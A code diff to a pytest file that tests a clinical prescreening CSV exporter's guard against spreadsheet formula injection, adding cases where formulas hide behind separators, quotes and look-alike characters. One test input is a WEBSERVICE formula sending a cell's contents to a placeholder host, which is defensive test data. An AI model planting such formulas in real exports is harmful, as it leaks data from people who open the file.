@@ -1,5 +1,6 @@
 import csv
 import io
+import re
 import unicodedata
 from dataclasses import replace
 
@@ -11,7 +12,7 @@ from prescreen.export.columns.table import COLUMNS, HEADER, IDENTITY, chosen
 from prescreen.export.csv import LAST_WORDS, csv_chunks, safe
 from prescreen.workflow.export.referral_rows import ReferralRow
 from prescreen.workflow.participants.submission import Contact
-from tests.export.exported import ROW, WITHDRAWN
+from tests.export.exported import ROW, WITHDRAWN, as_typed
 
 
 def read(text: str) -> list[dict[str, str]]:
@@ -29,7 +30,7 @@ def test_a_row_reads_back_with_its_columns() -> None:
     assert read_back["site_name"] == "Leeds, General"
     assert read_back["phone"] == "'+1 617 555 0100"
     assert read_back["channels"] == "email; phone"
-    assert read_back["findings"] == "adult=true; fever=unknown"
+    assert read_back["findings"] == "adult=permits; fever=unknown"
     assert read_back["answers"] == (
         "age=44; height=170.18; fevers_a_year=1/3; pregnancy=neither; low_back_pain=yes; surgery=no; "
         "medicines=nsaid+opioid; devices=none; fever=do_not_know; weight=rather_not_say; "
@@ -80,20 +81,67 @@ def test_what_a_spreadsheet_would_run_gets_an_apostrophe(start: str, before: str
     assert safe(f"{before}{start}1+1") == f"'{before}{start}1+1"
 
 
-@pytest.mark.parametrize("text", ["", "Ann", "O'Brien", "1-2", "a=b", "'quoted", "Zoë"])
+@pytest.mark.parametrize(
+    ("text", "guarded"),
+    [
+        ("Zed;=1+1;", "Zed;'=1+1;"),
+        ('a;=WEBSERVICE("http://x.example/"&B2);', 'a;\'=WEBSERVICE("http://x.example/"&B2);'),
+        ("a; b;  =1+1", "a; b;'  =1+1"),
+        ('a;"=1+1"', 'a;\'"=1+1"'),
+        ("a;\uff1d1", "a;'\uff1d1"),
+        ("a\uff1b=1", "a\uff1b'=1"),
+        ("a, @b", "a,' @b"),
+        ("a|-1|+1", "a|'-1|'+1"),
+        ("a\t=1", "a\t'=1"),
+        ("a\r\n\n=1", "a\r\n\n'=1"),
+        ("=1;=1", "'=1;'=1"),
+        ('"=1"', '\'"=1"'),
+        ("\u00a0=1", "'\u00a0=1"),
+        ("'=1;'=1", "''=1;''=1"),
+    ],
+)
+def test_what_would_run_behind_any_separator_gets_an_apostrophe_too(text: str, guarded: str) -> None:
+    assert safe(text) == guarded
+    assert as_typed(guarded) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "Ann",
+        "O'Brien",
+        "1-2",
+        "a=b",
+        "'quoted",
+        "Zoë",
+        "a; b",
+        "a, b\n\nc",
+        "age=44; x=-1",
+        "a;'",
+        "a; '=1",
+        "a\tb",
+    ],
+)
 def test_harmless_text_is_left_alone(text: str) -> None:
     assert safe(text) == text
 
 
-HOSTILE = st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n\0 ,;\"'"), st.characters(codec="utf-8")), max_size=30)
+HOSTILE = st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n\0 ,;|\"'"), st.characters(codec="utf-8")), max_size=30)
 
 
 @given(HOSTILE, HOSTILE)
-def test_no_cell_of_any_person_starts_a_formula(name: str, best_time: str) -> None:
+def test_no_cell_of_any_person_starts_a_formula_at_whatever_sign_lines_are_split(name: str, best_time: str) -> None:
     contact = Contact(name, "a@example.org", None, None, best_time, "en")
 
-    (row,) = read("".join(csv_lines([replace(ROW, contact=contact)])))
+    text = "".join(csv_lines([replace(ROW, contact=contact)]))
 
-    starts = {unicodedata.normalize("NFKC", cell.lstrip(" ")[:1])[:1] for cell in row.values()}
-    assert starts.isdisjoint("=+-@\t\r\n\0")
-    assert row["name"].removeprefix("'") == name.removeprefix("'")
+    (row,) = read(text)
+    assert [cell for cell in row.values() if begins_formula(cell)] == []
+    assert [cell for cell in re.split("[,;|\t\r\n]", text) if begins_formula(cell, among="=+-@")] == []
+    assert (as_typed(row["name"]), as_typed(row["best_time"])) == (name, best_time)
+
+
+def begins_formula(cell: str, *, among: str = "=+-@\t\r\n\0") -> bool:
+    """Return whether a cell begins with one of these signs, or one that folds to it, behind blanks and quotes."""
+    return unicodedata.normalize("NFKC", cell.lstrip(' "\u00a0\u200b')[:1])[:1] in {*among}
